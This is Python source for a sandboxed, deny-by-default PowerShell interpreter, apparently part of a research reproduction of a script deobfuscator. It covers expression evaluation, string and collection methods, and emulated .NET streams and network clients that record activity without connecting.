    def _evaluate_unary(self, node: N.UnaryExpressionAst) -> Any:
        if node.operator in ("++", "--"):
            if isinstance(node.child, N.VariableExpressionAst):
                current = to_number(self._read_variable(node.child.name))
                updated = current + (1 if node.operator == "++" else -1)
                self._write_variable(node.child.name, updated)
                return current if node.postfix else updated
            raise UnsupportedOperationError("++/-- target")
        return unary_op(node.operator, self.evaluate(node.child))

    def _evaluate_binary(self, node: N.BinaryExpressionAst) -> Any:
        operator = node.operator.lower()
        if operator in ("-and", "-or"):
            left = to_bool(self.evaluate(node.left))
            if operator == "-and" and not left:
                return False
            if operator == "-or" and left:
                return True
            return to_bool(self.evaluate(node.right))
        if operator == "+" and isinstance(
            node.left, N.BinaryExpressionAst
        ) and node.left.operator == "+":
            # Flatten homogeneous '+' chains iteratively: chunked-blob
            # concatenations run hundreds of terms deep, which would
            # otherwise exhaust Python's recursion limit.
            operands: List[N.Ast] = [node.right]
            spine = node.left
            while (
                isinstance(spine, N.BinaryExpressionAst)
                and spine.operator == "+"
            ):
                operands.append(spine.right)
                spine = spine.left
            operands.append(spine)
            operands.reverse()
            result = self.evaluate(operands[0])
            for operand in operands[1:]:
                self.budget.step()
                result = binary_op("+", result, self.evaluate(operand))
            return result
        left = self.evaluate(node.left)
        right = self.evaluate(node.right)
        return binary_op(operator, left, right)

    def _member_name(self, member_node: N.Ast) -> str:
        if isinstance(member_node, N.StringConstantExpressionAst):
            return member_node.value
        return to_string(self.evaluate(member_node))

    def _evaluate_member(self, node: N.MemberExpressionAst) -> Any:
        name = self._member_name(node.member)
        if node.static and isinstance(node.expression, N.TypeExpressionAst):
            return statics.get_static_property(
                node.expression.type_name_str, name
            )
        value = self.evaluate(node.expression)
        if isinstance(value, TypeValue):
            return statics.get_static_property(value.name, name)
        return members.get_member(value, name)

    def _evaluate_invoke_member(self, node: N.InvokeMemberExpressionAst) -> Any:
        name = self._member_name(node.member)
        args = [self.evaluate(a) for a in node.arguments]
        if node.static and isinstance(node.expression, N.TypeExpressionAst):
            return self._call_static(node.expression.type_name_str, name, args)
        value = self.evaluate(node.expression)
        if isinstance(value, TypeValue):
            return self._call_static(value.name, name, args)
        return self.invoke_member_on(value, name, args)

    def _event_text(self, value: Any) -> str:
        """A best-effort stringification for behaviour-event arguments."""
        try:
            return to_string(value)
        except Exception:  # noqa: BLE001 — event logging must not throw
            return f"<{type(value).__name__}>"

    def _call_static(self, type_name: str, member: str, args: List[Any]):
        resolved = statics.resolve_type(type_name)
        if self.host.collect_events:
            self.host.record_event(
                "static",
                f"{resolved}::{member}".lower(),
                tuple(self._event_text(a) for a in args),
            )
        if resolved == "scriptblock" and member.lower() == "create":
            text = to_string(args[0]) if args else ""
            try:
                ast = parse(text)
            except PSSyntaxError as exc:
                raise EvaluationError(f"bad scriptblock: {exc}") from exc
            return ScriptBlockValue(ast, text)
        if not self.policy.check("static", type_name, self.audit):
            self.host.record_event("blocked", f"[{type_name.lower()}]")
            raise PolicyDeniedError(f"[{type_name}]", "static")
        if resolved == "io.file":
            return self._call_io_file(member, args)
        return statics.call_static(type_name, member, args)

    def _call_io_file(self, member: str, args: List[Any]):
        """``[IO.File]`` against the host's virtual filesystem."""
        lowered = member.lower()
        if lowered in ("writealltext", "writeallbytes", "writealllines"):
            path = to_string(args[0])
            content = args[1] if len(args) > 1 else ""
            if lowered == "writeallbytes":
                if isinstance(content, list):
                    content = bytearray(to_int(v) & 0xFF for v in content)
            elif lowered == "writealllines":
                content = "\r\n".join(
                    to_string(v) for v in as_list(content)
                )
            else:
                content = to_string(content)
            self.host.write_file(path, content)
            return None
        if lowered in ("readalltext", "readallbytes", "readalllines"):
            path = to_string(args[0])
            content = self.host.read_file(path)
            if content is None:
                raise EvaluationError(f"[IO.File]: path not found: {path}")
            if lowered == "readallbytes":
                if isinstance(content, str):
                    return bytearray(content.encode("utf-8"))
                return bytearray(content)
            if isinstance(content, (bytes, bytearray)):
                content = bytes(content).decode("utf-8", "replace")
            if lowered == "readalllines":
                return content.splitlines()
            return content
        if lowered == "exists":
            return self.host.has_file(to_string(args[0]))
        if lowered == "delete":
            self.host.delete_file(to_string(args[0]))
            return None
        raise UnsupportedOperationError(f"[IO.File]::{member}")

    def invoke_member_on(self, value: Any, name: str, args: List[Any]) -> Any:
        self.budget.step()
        if isinstance(value, ScriptBlockValue):
            lowered = name.lower()
            if lowered in ("invoke", "invokereturnasis"):
                result = self.invoke_scriptblock(value, args=args)
                if lowered == "invoke":
                    return result if len(result) != 1 else result[0]
                return unwrap_single(result)
            if lowered == "tostring":
                return value.text()
            if lowered == "getnewclosure":
                return value
            raise UnsupportedOperationError(f"scriptblock method {name!r}")
        if isinstance(value, PSObjectBase):
            if not self.policy.check("member", name, self.audit):
                self.host.record_event("blocked", name.lower())
                raise PolicyDeniedError(name, "member")
            if self.host.collect_events:
                self.host.record_event(
                    "member",
                    f"{value.type_name}.{name}".lower(),
                    tuple(self._event_text(a) for a in args),
                )
            return value.ps_call(name, args)
        if isinstance(value, str):
            return members.invoke_string_method(value, name, args)
        if isinstance(value, PSChar):
            return members.invoke_char_method(value, name, args)
        if isinstance(value, list):
            return members.invoke_list_method(value, name, args)
        if isinstance(value, (bytes, bytearray)):
            return members.invoke_list_method(list(value), name, args)
        if isinstance(value, bool) or isinstance(value, (int, float)):
            return members.invoke_number_method(value, name, args)
        if isinstance(value, dict):
            return members.invoke_dict_method(value, name, args)
        if value is None:
            raise EvaluationError("method call on $null")
        raise UnsupportedOperationError(
            f"method {name!r} on {type(value).__name__}"
        )

    def _evaluate_index(self, node: N.IndexExpressionAst) -> Any:
        target = self.evaluate(node.target)
        index = self.evaluate(node.index)
        return self._index_value(target, index)

    def _index_value(self, target: Any, index: Any) -> Any:
        if isinstance(index, list):
            return [self._index_value(target, i) for i in index]
        if isinstance(target, dict):
            key = to_string(index)
            lowered = key.lower()
            for existing in target:
                if isinstance(existing, str) and existing.lower() == lowered:
                    return target[existing]
            return None
        position = to_int(index)
        if isinstance(target, str):
            if -len(target) <= position < len(target):
                return PSChar(target[position])
            return None
        if isinstance(target, (list, tuple, bytes, bytearray)):
            if -len(target) <= position < len(target):
                return target[position]
            return None
        raise UnsupportedOperationError(
            f"indexing {type(target).__name__}"
        )

    def _evaluate_paren(self, node: N.ParenExpressionAst) -> Any:
        inner = node.pipeline
        if isinstance(inner, N.AssignmentStatementAst):
            return self._execute_assignment(inner)
        return unwrap_single(self.execute_statement(inner))

    # -- variables ------------------------------------------------------------------------

    def _read_variable(self, name: str) -> Any:
        prefix, bare = split_scope_prefix(name)
        if prefix == "env":
            if self.policy.checks_env and not self.policy.check(
                "env", bare, self.audit
            ):
                self.host.record_event("blocked", f"env:{bare.lower()}")
                raise PolicyDeniedError(f"env:{bare}", "env")
            override = self.env_overrides.get(bare.lower())
            if override is not None:
                return override
            value = lookup_environment(bare)
            if value is None:
                raise UnknownVariableError(name)
            return value
        if prefix in ("global", "script", "local", "private", "variable"):
            name = bare
        if self.scope.has(name):
            return self.scope.get(name)
        if is_automatic(name):
            return lookup_automatic(name)
        raise UnknownVariableError(name)

    def _write_variable(self, name: str, value: Any) -> None:
        prefix, bare = split_scope_prefix(name)
        if prefix == "env":
            self.env_overrides[bare.lower()] = to_string(value)
            return
        if prefix in ("global", "script"):
            self.scope.root().set_local(bare, value)
            return
        if prefix in ("local", "private", "variable"):
            self.scope.set_local(bare, value)
            return
        self.scope.set(name, value)

    # -- casts ----------------------------------------------------------------------------

    def _cast(self, type_name: str, value: Any) -> Any:
        resolved = statics.resolve_type(type_name)
        if resolved in ("char",):
            if isinstance(value, str) and len(value) == 1:
                return PSChar(value)
            if isinstance(value, (int, float)) and not isinstance(value, bool):
                return PSChar(to_int(value))
            if isinstance(value, str):
                return PSChar(value)  # raises with a clear message
            return PSChar(to_int(value))
        if resolved in ("string",):
            return to_string(value)
        if resolved in ("int", "int32", "int16", "int64", "long", "uint32"):
            return to_int(value)
        if resolved in ("byte",):
            number = to_int(value)
            if not 0 <= number <= 255:
                raise EvaluationError(f"byte out of range: {number}")
            return number
        if resolved in ("double", "single", "float", "decimal"):
            return float(to_number(value))
        if resolved in ("bool", "boolean"):
            return to_bool(value)
        if resolved in ("char[]",):
            return char_array(to_string(value))
        if resolved in ("byte[]",):
            if isinstance(value, (bytes, bytearray)):
                return bytearray(value)
            if isinstance(value, list):
                return bytearray(to_int(v) & 0xFF for v in value)
            raise EvaluationError("cannot cast to byte[]")
        if resolved in ("string[]",):
            return [to_string(v) for v in as_list(value)]
        if resolved in ("int[]", "int32[]"):
            return [to_int(v) for v in as_list(value)]
        if resolved in ("array", "object[]"):
            return as_list(value)
        if resolved in ("void",):
            return None
        if resolved in ("regex", "text.regularexpressions.regex"):
            return to_string(value)
        if resolved in ("scriptblock",):
            text = to_string(value)
            try:
                ast = parse(text)
            except PSSyntaxError as exc:
                raise EvaluationError(f"bad scriptblock: {exc}") from exc
            return ScriptBlockValue(ast, text)
        if resolved in ("io.memorystream",):
            from repro.runtime.objects import MemoryStream

            return MemoryStream(value)
        raise UnsupportedOperationError(f"cast to [{type_name}]")

    # -- string expansion ------------------------------------------------------------------

    def expand_string(self, template: str) -> str:
        """Expand ``$var``, ``${var}`` and ``$( ... )`` in a cooked
        double-quoted string body."""
        out: List[str] = []
        i = 0
        length = len(template)
        while i < length:
            ch = template[i]
            if ch != "$":
                out.append(ch)
                i += 1
                continue
            if i + 1 < length and template[i + 1] == "(":
                depth = 0
                j = i + 1
                while j < length:
                    if template[j] == "(":
                        depth += 1
                    elif template[j] == ")":
                        depth -= 1
                        if depth == 0:
                            break
                    j += 1
                inner = template[i + 2:j]
                values = self.run_script_text(inner)
                out.append(to_string(unwrap_single(values)))
                i = j + 1
                continue
            if i + 1 < length and template[i + 1] == "{":
                j = template.find("}", i + 2)
                if j == -1:
                    out.append(ch)
                    i += 1
                    continue
                name = template[i + 2:j]
                out.append(self._expand_variable(name))
                i = j + 1
                continue
            j = i + 1
            while j < length and (
                template[j].isalnum() or template[j] in "_:"
            ):
                if template[j] == ":" and not (
                    j + 1 < length
                    and (template[j + 1].isalnum() or template[j + 1] == "_")
                ):
                    break
                j += 1
            name = template[i + 1:j]
            if not name:
                out.append(ch)
                i += 1
                continue
            out.append(self._expand_variable(name))
            i = j
        return "".join(out)

    def _expand_variable(self, name: str) -> str:
        try:
            return to_string(self._read_variable(name))
        except UnknownVariableError:
            # PowerShell expands unknown variables to the empty string.
            return ""


def evaluate_expression_text(
    text: str,
    variables: Optional[Dict[str, Any]] = None,
    host: Optional[SandboxHost] = None,
    enforce_blocklist: bool = True,
    budget: Optional[ExecutionBudget] = None,
) -> Any:
    """Parse and evaluate a single expression/pipeline, returning its value.

    This is the "Invoke" of the paper: convert the recoverable piece to a
    script block and execute it.
    """
    evaluator = Evaluator(
        host=host,
        budget=budget,
        enforce_blocklist=enforce_blocklist,
        variables=variables,
    )
    outputs = evaluator.run_script_text(text)
    return unwrap_single(outputs)
