"""Sandboxed PowerShell expression/pipeline interpreter.

This subpackage is the reproduction's substitute for executing recoverable
script pieces with ``ScriptBlock.Invoke()`` (paper Section III-B2).  It is a
deny-by-default interpreter: every operator, method, static type member and
cmdlet must be explicitly allowlisted here, and anything else raises
:class:`~repro.runtime.errors.UnsupportedOperationError`, which the
deobfuscator treats as "keep the obfuscated piece unchanged".

There is no file system, registry, process or network surface: objects like
``Net.WebClient`` exist only as *recorders* so the behavioural sandbox can
compare network intent between scripts (paper Section IV-C3).
"""

from repro.runtime.errors import (
    BlockedCommandError,
    EvaluationError,
    StepLimitError,
    UnknownVariableError,
    UnsupportedOperationError,
)


def __getattr__(name):
    """Lazy re-exports to keep bootstrap import order flexible."""
    if name in ("Evaluator", "evaluate_expression_text"):
        from repro.runtime import evaluator

        return getattr(evaluator, name)
    raise AttributeError(f"module 'repro.runtime' has no attribute {name!r}")

__all__ = [
    "Evaluator",
    "evaluate_expression_text",
    "EvaluationError",
    "UnsupportedOperationError",
    "BlockedCommandError",
    "UnknownVariableError",
    "StepLimitError",
]
