"""Instance members and methods on sandbox values.

PowerShell member *names* are case-insensitive (``'x'.RepLACe`` works) but
string method *semantics* follow .NET — ``String.Replace`` is an ordinal,
case-sensitive replace, unlike the ``-replace`` operator.
"""

from typing import Any, List

from repro.runtime.errors import EvaluationError, UnsupportedOperationError
from repro.runtime.objects import PSObjectBase
from repro.runtime.values import (
    PSChar,
    ScriptBlockValue,
    as_list,
    char_array,
    to_int,
    to_number,
    to_string,
)


def get_member(value: Any, name: str) -> Any:
    """Property access ``value.Name``."""
    lowered = name.lower()
    if isinstance(value, PSObjectBase):
        return value.ps_member(name)
    if isinstance(value, str):
        if lowered == "length":
            return len(value)
        if lowered == "chars":
            return char_array(value)
        raise UnsupportedOperationError(f"string member {name!r}")
    if isinstance(value, PSChar):
        raise UnsupportedOperationError(f"char member {name!r}")
    if isinstance(value, (list, tuple)):
        if lowered in ("length", "count"):
            return len(value)
        if lowered == "rank":
            return 1
        raise UnsupportedOperationError(f"array member {name!r}")
    if isinstance(value, (bytes, bytearray)):
        if lowered in ("length", "count"):
            return len(value)
        raise UnsupportedOperationError(f"byte[] member {name!r}")
    if isinstance(value, dict):
        if lowered == "count":
            return len(value)
        if lowered == "keys":
            return list(value.keys())
        if lowered == "values":
            return list(value.values())
        # Hashtable member access falls through to key lookup.
        for key in value:
            if isinstance(key, str) and key.lower() == lowered:
                return value[key]
        return None
    if isinstance(value, (int, float)):
        raise UnsupportedOperationError(f"number member {name!r}")
    if isinstance(value, ScriptBlockValue):
        if lowered == "ast":
            return value.ast
        raise UnsupportedOperationError(f"scriptblock member {name!r}")
    if value is None:
        raise EvaluationError("member access on $null")
    raise UnsupportedOperationError(
        f"member {name!r} on {type(value).__name__}"
    )


def set_member(value: Any, name: str, new_value: Any) -> None:
    """Property assignment ``value.Name = x``."""
    if isinstance(value, PSObjectBase):
        value.ps_set_member(name, new_value)
        return
    if isinstance(value, dict):
        lowered = name.lower()
        for key in list(value):
            if isinstance(key, str) and key.lower() == lowered:
                value[key] = new_value
                return
        value[name] = new_value
        return
    raise UnsupportedOperationError(
        f"cannot set member {name!r} on {type(value).__name__}"
    )


def _split_args(args: List[Any]) -> List[str]:
    """Separators for ``String.Split`` — chars and strings accepted."""
    separators: List[str] = []
    for arg in args:
        if isinstance(arg, list):
            separators.extend(to_string(a) for a in arg)
        elif isinstance(arg, (str, PSChar)):
            text = to_string(arg)
            # A multi-char string argument is a char[] overload in practice.
            separators.extend(text if len(text) > 1 else [text])
        elif isinstance(arg, int) and not isinstance(arg, bool):
            continue  # count limit overload — ignored
    return [s for s in separators if s != ""]


def _string_split(value: str, args: List[Any]) -> List[str]:
    separators = _split_args(args)
    if not separators:
        return value.split()
    pieces = [value]
    for separator in separators:
        next_pieces: List[str] = []
        for piece in pieces:
            next_pieces.extend(piece.split(separator))
        pieces = next_pieces
    return pieces


def invoke_string_method(value: str, name: str, args: List[Any]) -> Any:
    lowered = name.lower()
    if lowered == "replace":
        old = to_string(args[0])
        new = to_string(args[1]) if len(args) > 1 else ""
        if old == "":
            raise EvaluationError("String.Replace: empty search string")
        return value.replace(old, new)
    if lowered == "split":
        return _string_split(value, args)
    if lowered == "substring":
        start = to_int(args[0])
        if not 0 <= start <= len(value):
            raise EvaluationError("Substring start out of range")
        if len(args) > 1:
            length = to_int(args[1])
            if length < 0 or start + length > len(value):
                raise EvaluationError("Substring length out of range")
            return value[start:start + length]
        return value[start:]
    if lowered in ("toupper", "toupperinvariant"):
        return value.upper()
    if lowered in ("tolower", "tolowerinvariant"):
        return value.lower()
    if lowered == "tochararray":
        return char_array(value)
    if lowered == "trim":
        return value.strip(_trim_chars(args)) if args else value.strip()
    if lowered == "trimstart":
        return value.lstrip(_trim_chars(args)) if args else value.lstrip()
    if lowered == "trimend":
        return value.rstrip(_trim_chars(args)) if args else value.rstrip()
    if lowered == "startswith":
        return _fold(value, args).startswith(_fold(to_string(args[0]), args))
    if lowered == "endswith":
        return _fold(value, args).endswith(_fold(to_string(args[0]), args))
    if lowered == "contains":
        return to_string(args[0]) in value
    if lowered == "indexof":
        return value.find(to_string(args[0]))
    if lowered == "lastindexof":
        return value.rfind(to_string(args[0]))
    if lowered == "padleft":
        width = to_int(args[0])
        fill = to_string(args[1]) if len(args) > 1 else " "
        return value.rjust(width, fill)
    if lowered == "padright":
        width = to_int(args[0])
        fill = to_string(args[1]) if len(args) > 1 else " "
        return value.ljust(width, fill)
    if lowered == "insert":
        index = to_int(args[0])
        return value[:index] + to_string(args[1]) + value[index:]
    if lowered == "remove":
        index = to_int(args[0])
        if len(args) > 1:
            count = to_int(args[1])
            return value[:index] + value[index + count:]
        return value[:index]
    if lowered == "tostring":
        return value
    if lowered == "normalize":
        import unicodedata

        form = to_string(args[0]) if args else "NFC"
        return unicodedata.normalize(form.upper(), value)
    if lowered == "getenumerator":
        return char_array(value)
    if lowered == "clone":
        return value
    if lowered == "compareto":
        other = to_string(args[0])
        return (value > other) - (value < other)
    if lowered == "equals":
        return value == to_string(args[0])
    if lowered == "format":  # instance-style [string]::Format misuse
        from repro.runtime.operators import format_operator

        return format_operator(value, list(args))
    raise UnsupportedOperationError(f"string method {name!r}")


def _fold(text: str, args: List[Any]) -> str:
    """StartsWith/EndsWith: honour the IgnoreCase comparison argument."""
    for arg in args[1:]:
        if isinstance(arg, str) and "ignorecase" in arg.lower():
            return text.lower()
        if arg is True:
            return text.lower()
    return text


def _trim_chars(args: List[Any]) -> str:
    chars = []
    for arg in args:
        if isinstance(arg, list):
            chars.extend(to_string(a) for a in arg)
        else:
            chars.append(to_string(arg))
    return "".join(chars)


def invoke_list_method(value: list, name: str, args: List[Any]) -> Any:
    lowered = name.lower()
    if lowered == "contains":
        return args[0] in value
    if lowered == "getvalue":
        return value[to_int(args[0])]
    if lowered == "clone":
        return list(value)
    if lowered == "tostring":
        return to_string(value)
    if lowered == "getenumerator":
        return list(value)
    if lowered == "indexof":
        try:
            return value.index(args[0])
        except ValueError:
            return -1
    raise UnsupportedOperationError(f"array method {name!r}")


def invoke_number_method(value, name: str, args: List[Any]) -> Any:
    lowered = name.lower()
    if lowered == "tostring":
        if args:
            spec = to_string(args[0])
            if spec and spec[0].upper() == "X":
                width = int(spec[1:]) if len(spec) > 1 else 0
                formatted = format(to_int(value), "X" if spec[0] == "X" else "x")
                return formatted.zfill(width)
            if spec and spec[0].upper() == "D":
                width = int(spec[1:]) if len(spec) > 1 else 0
                return str(to_int(value)).zfill(width)
        return to_string(value)
    if lowered == "equals":
        return to_number(value) == to_number(args[0])
    if lowered == "compareto":
        other = to_number(args[0])
        mine = to_number(value)
        return (mine > other) - (mine < other)
    raise UnsupportedOperationError(f"number method {name!r}")


def invoke_char_method(value: PSChar, name: str, args: List[Any]) -> Any:
    lowered = name.lower()
    if lowered == "tostring":
        return value.char
    if lowered == "equals":
        return value == args[0]
    raise UnsupportedOperationError(f"char method {name!r}")


def invoke_dict_method(value: dict, name: str, args: List[Any]) -> Any:
    lowered = name.lower()
    if lowered == "containskey":
        needle = to_string(args[0]).lower()
        return any(
            isinstance(k, str) and k.lower() == needle for k in value
        )
    if lowered == "add":
        value[to_string(args[0])] = args[1] if len(args) > 1 else None
        return None
    if lowered == "remove":
        needle = to_string(args[0]).lower()
        for key in list(value):
            if isinstance(key, str) and key.lower() == needle:
                del value[key]
        return None
    if lowered == "getenumerator":
        return [{"Key": k, "Value": v} for k, v in value.items()]
    if lowered == "tostring":
        return to_string(value)
    raise UnsupportedOperationError(f"hashtable method {name!r}")
