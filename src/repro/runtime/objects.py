"""Allowlisted .NET object types constructible inside the sandbox.

Each class exposes a ``ps_call(name, args)`` method dispatcher and a
``ps_member(name)`` property dispatcher (both case-insensitive, like
PowerShell), plus ``ps_to_string`` for string conversion.  Anything not
explicitly implemented raises
:class:`~repro.runtime.errors.UnsupportedOperationError`, keeping the
sandbox deny-by-default.
"""

import zlib
from typing import Any, List, Optional

from repro.runtime.errors import (
    EvaluationError,
    UnsupportedOperationError,
)
from repro.runtime.host import SandboxHost
from repro.runtime.values import PSChar, to_int, to_string

_SYNTHETIC_TCP_BANNER = ""


class PSObjectBase:
    """Common dispatch plumbing for sandbox objects."""

    type_name = "System.Object"

    def ps_member(self, name: str) -> Any:
        raise UnsupportedOperationError(
            f"{self.type_name} has no member {name!r}"
        )

    def ps_set_member(self, name: str, value: Any) -> None:
        raise UnsupportedOperationError(
            f"{self.type_name} member {name!r} is not settable"
        )

    def ps_call(self, name: str, args: List[Any]) -> Any:
        raise UnsupportedOperationError(
            f"{self.type_name} has no method {name!r}"
        )

    def ps_to_string(self) -> str:
        return self.type_name


class Encoding(PSObjectBase):
    """One of the ``[Text.Encoding]`` family."""

    _CODECS = {
        "unicode": "utf-16-le",
        "utf8": "utf-8",
        "ascii": "ascii",
        "bigendianunicode": "utf-16-be",
        "utf32": "utf-32-le",
        "utf7": "utf-7",
        "default": "cp1252",
        "oem": "cp437",
    }

    def __init__(self, name: str):
        lowered = name.lower()
        if lowered not in self._CODECS:
            raise UnsupportedOperationError(f"unknown encoding {name!r}")
        self.name = lowered
        self.codec = self._CODECS[lowered]
        self.type_name = f"System.Text.{name}Encoding"

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "getstring":
            data = _coerce_bytes(args[0])
            return data.decode(self.codec, errors="replace")
        if lowered == "getbytes":
            text = to_string(args[0])
            return bytearray(text.encode(self.codec, errors="replace"))
        if lowered == "getchars":
            data = _coerce_bytes(args[0])
            return [PSChar(ch) for ch in data.decode(self.codec, "replace")]
        if lowered == "tostring":
            return self.ps_to_string()
        return super().ps_call(name, args)

    def ps_to_string(self) -> str:
        return self.type_name


def _coerce_bytes(value: Any) -> bytes:
    if isinstance(value, (bytes, bytearray)):
        return bytes(value)
    if isinstance(value, list):
        return bytes(to_int(v) & 0xFF for v in value)
    if isinstance(value, str):
        return value.encode("latin-1", errors="replace")
    if isinstance(value, int):
        return bytes([value & 0xFF])
    raise EvaluationError(f"cannot coerce {type(value).__name__} to bytes")


class MemoryStream(PSObjectBase):
    type_name = "System.IO.MemoryStream"

    def __init__(self, initial: Optional[Any] = None):
        if initial is None:
            self.buffer = bytearray()
        else:
            self.buffer = bytearray(_coerce_bytes(initial))
        self.position = 0
        self.closed = False

    def ps_member(self, name: str) -> Any:
        lowered = name.lower()
        if lowered == "length":
            return len(self.buffer)
        if lowered == "position":
            return self.position
        return super().ps_member(name)

    def ps_set_member(self, name: str, value: Any) -> None:
        if name.lower() == "position":
            self.position = to_int(value)
            return
        super().ps_set_member(name, value)

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "toarray":
            return bytearray(self.buffer)
        if lowered == "write":
            data = _coerce_bytes(args[0])
            offset = to_int(args[1]) if len(args) > 1 else 0
            count = to_int(args[2]) if len(args) > 2 else len(data)
            chunk = data[offset:offset + count]
            self.buffer[self.position:self.position + len(chunk)] = chunk
            self.position += len(chunk)
            return None
        if lowered == "read":
            if not args:
                remaining = bytes(self.buffer[self.position:])
                self.position = len(self.buffer)
                return bytearray(remaining)
            target, offset, count = args[0], to_int(args[1]), to_int(args[2])
            chunk = self.buffer[self.position:self.position + count]
            if isinstance(target, (bytearray, list)):
                for i, byte in enumerate(chunk):
                    target[offset + i] = byte
            self.position += len(chunk)
            return len(chunk)
        if lowered == "seek":
            self.position = to_int(args[0])
            return self.position
        if lowered in ("close", "dispose", "flush"):
            self.closed = True
            return None
        return super().ps_call(name, args)


class DeflateStream(PSObjectBase):
    """``System.IO.Compression.DeflateStream`` (raw deflate, RFC 1951)."""

    type_name = "System.IO.Compression.DeflateStream"
    _wbits = -15

    def __init__(self, stream: MemoryStream, mode: str):
        if not isinstance(stream, MemoryStream):
            raise UnsupportedOperationError(
                "DeflateStream requires a MemoryStream"
            )
        self.stream = stream
        self.mode = str(mode).lower()
        if self.mode not in ("decompress", "compress", "0", "1"):
            raise EvaluationError(f"bad compression mode {mode!r}")
        self._plain: Optional[bytes] = None
        self._write_buffer = bytearray()

    def decompressed(self) -> bytes:
        if self._plain is None:
            raw = bytes(self.stream.buffer[self.stream.position:])
            try:
                self._plain = zlib.decompress(raw, self._wbits)
            except zlib.error as exc:
                raise EvaluationError(f"deflate error: {exc}") from exc
        return self._plain

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "read":
            plain = self.decompressed()
            if not args:
                return bytearray(plain)
            target, offset, count = args[0], to_int(args[1]), to_int(args[2])
            chunk = plain[:count]
            if isinstance(target, (bytearray, list)):
                for i, byte in enumerate(chunk):
                    target[offset + i] = byte
            self._plain = plain[len(chunk):]
            return len(chunk)
        if lowered == "write":
            data = _coerce_bytes(args[0])
            offset = to_int(args[1]) if len(args) > 1 else 0
            count = to_int(args[2]) if len(args) > 2 else len(data)
            self._write_buffer.extend(data[offset:offset + count])
            return None
        if lowered == "copyto":
            destination = args[0]
            plain = self.decompressed()
            if isinstance(destination, MemoryStream):
                destination.buffer.extend(plain)
                destination.position = len(destination.buffer)
                return None
            raise UnsupportedOperationError("CopyTo target unsupported")
        if lowered in ("close", "dispose", "flush"):
            if self._write_buffer:
                compressor = zlib.compressobj(9, zlib.DEFLATED, self._wbits)
                compressed = (
                    compressor.compress(bytes(self._write_buffer))
                    + compressor.flush()
                )
                self.stream.buffer.extend(compressed)
                self._write_buffer.clear()
            return None
        return super().ps_call(name, args)


class GzipStream(DeflateStream):
    type_name = "System.IO.Compression.GzipStream"
    _wbits = 16 + 15


class StreamReader(PSObjectBase):
    type_name = "System.IO.StreamReader"

    def __init__(self, stream: Any, encoding: Optional[Encoding] = None):
        self.stream = stream
        self.encoding = encoding or Encoding("utf8")
        self._text: Optional[str] = None
        self._line_cursor = 0

    def _read_all(self) -> str:
        if self._text is None:
            if isinstance(self.stream, DeflateStream):
                data = self.stream.decompressed()
            elif isinstance(self.stream, MemoryStream):
                data = bytes(self.stream.buffer[self.stream.position:])
            else:
                raise UnsupportedOperationError(
                    "StreamReader source unsupported"
                )
            self._text = data.decode(self.encoding.codec, errors="replace")
        return self._text

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "readtoend":
            return self._read_all()
        if lowered == "readline":
            lines = self._read_all().splitlines()
            if self._line_cursor >= len(lines):
                return None
            line = lines[self._line_cursor]
            self._line_cursor += 1
            return line
        if lowered in ("close", "dispose"):
            return None
        return super().ps_call(name, args)


class WebClient(PSObjectBase):
    """``System.Net.WebClient`` — records instead of connecting."""

    type_name = "System.Net.WebClient"

    def __init__(self, host: SandboxHost):
        self.host = host
        self.headers: dict = {}
        self.proxy = None
        self.credentials = None
        self.encoding: Optional[Encoding] = None

    def ps_member(self, name: str) -> Any:
        lowered = name.lower()
        if lowered == "headers":
            return self.headers
        if lowered == "proxy":
            return self.proxy
        if lowered == "credentials":
            return self.credentials
        if lowered == "encoding":
            return self.encoding
        return super().ps_member(name)

    def ps_set_member(self, name: str, value: Any) -> None:
        lowered = name.lower()
        if lowered == "proxy":
            self.proxy = value
            return
        if lowered == "credentials":
            self.credentials = value
            return
        if lowered == "encoding":
            self.encoding = value
            return
        if lowered == "headers":
            self.headers = value if isinstance(value, dict) else {}
            return
        super().ps_set_member(name, value)

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "downloadstring":
            url = to_string(args[0])
            self.host.record("net.download_string", url)
            return self.host.fetch(url)
        if lowered == "downloadfile":
            url = to_string(args[0])
            path = to_string(args[1]) if len(args) > 1 else ""
            self.host.record("net.download_file", url, detail=path)
            if path:
                # Land the synthetic body in the virtual filesystem so a
                # later `powershell -File` / `Get-Content` sees it.
                self.host.files[self.host._file_key(path)] = (
                    self.host.fetch(url)
                )
            return None
        if lowered == "downloaddata":
            url = to_string(args[0])
            self.host.record("net.download_data", url)
            return bytearray(self.host.fetch(url).encode("utf-8"))
        if lowered == "uploadstring":
            url = to_string(args[0])
            data = to_string(args[1]) if len(args) > 1 else ""
            self.host.record("net.upload_string", url, detail=data[:200])
            return ""
        if lowered == "openread":
            url = to_string(args[0])
            self.host.record("net.open_read", url)
            return MemoryStream(self.host.fetch(url).encode("utf-8"))
        if lowered in ("dispose", "close"):
            return None
        return super().ps_call(name, args)


class TcpClient(PSObjectBase):
    type_name = "System.Net.Sockets.TcpClient"

    def __init__(self, host: SandboxHost, remote: str = "", port: int = 0):
        self.host = host
        self.remote = remote
        self.port = port
        if remote:
            host.record("net.tcp_connect", f"{remote}:{port}")

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered == "connect":
            self.remote = to_string(args[0])
            self.port = to_int(args[1]) if len(args) > 1 else 0
            self.host.record("net.tcp_connect", f"{self.remote}:{self.port}")
            return None
        if lowered == "getstream":
            return MemoryStream(_SYNTHETIC_TCP_BANNER.encode())
        if lowered in ("close", "dispose"):
            return None
        return super().ps_call(name, args)

    def ps_member(self, name: str) -> Any:
        if name.lower() == "connected":
            return bool(self.remote)
        return super().ps_member(name)


class StringBuilder(PSObjectBase):
    type_name = "System.Text.StringBuilder"

    def __init__(self, initial: str = ""):
        self.parts: List[str] = [initial] if initial else []

    def ps_call(self, name: str, args: List[Any]) -> Any:
        lowered = name.lower()
        if lowered in ("append", "appendline"):
            self.parts.append(to_string(args[0]) if args else "")
            if lowered == "appendline":
                self.parts.append("\n")
            return self
        if lowered == "tostring":
            return self.ps_to_string()
        return super().ps_call(name, args)

    def ps_member(self, name: str) -> Any:
        if name.lower() == "length":
            return len(self.ps_to_string())
        return super().ps_member(name)

    def ps_to_string(self) -> str:
        return "".join(self.parts)


class ArrayList(PSObjectBase):
